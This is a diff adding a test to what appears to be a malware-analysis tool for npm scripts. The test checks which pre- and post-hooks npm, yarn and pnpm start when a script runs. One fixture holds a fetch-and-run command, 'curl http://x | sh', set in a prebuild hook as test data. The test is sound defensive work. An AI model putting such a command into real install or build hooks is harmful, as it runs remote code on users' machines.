@@ -21,6 +21,7 @@ from malseq.features.commands import (
     parse_command,
     reachable_scripts,
     script_behaviours,
+    scripts_started,
     split_command,
 )
 
@@ -237,3 +238,17 @@ def test_reachable_scripts_of_a_dense_web_is_cheap() -> None:
     names = [f"s{i}" for i in range(300)]
     web = {n: " && ".join(f"npm run {m}" for m in names) for n in names}
     assert len(reachable_scripts(web, ["s0"])) == 300
+
+
+def test_npm_and_yarn_run_pre_and_post_hooks() -> None:
+    [npm] = parse_command("npm run build")
+    assert scripts_started(npm) == ("prebuild", "build", "postbuild")
+    [yarn] = parse_command("yarn build")
+    assert scripts_started(yarn) == ("prebuild", "build", "postbuild")
+    [pnpm] = parse_command("pnpm build")
+    assert scripts_started(pnpm) == ("build",)
+    [file] = parse_command("node x.js")
+    assert scripts_started(file) == ()
+    scripts = {"postinstall": "npm run build", "prebuild": "curl http://x | sh", "build": "tsc", "postbuild": "x"}
+    assert [n for n, _ in reachable_scripts(scripts, ["postinstall"])] == ["postinstall", "prebuild", "build",
+                                                                           "postbuild"]
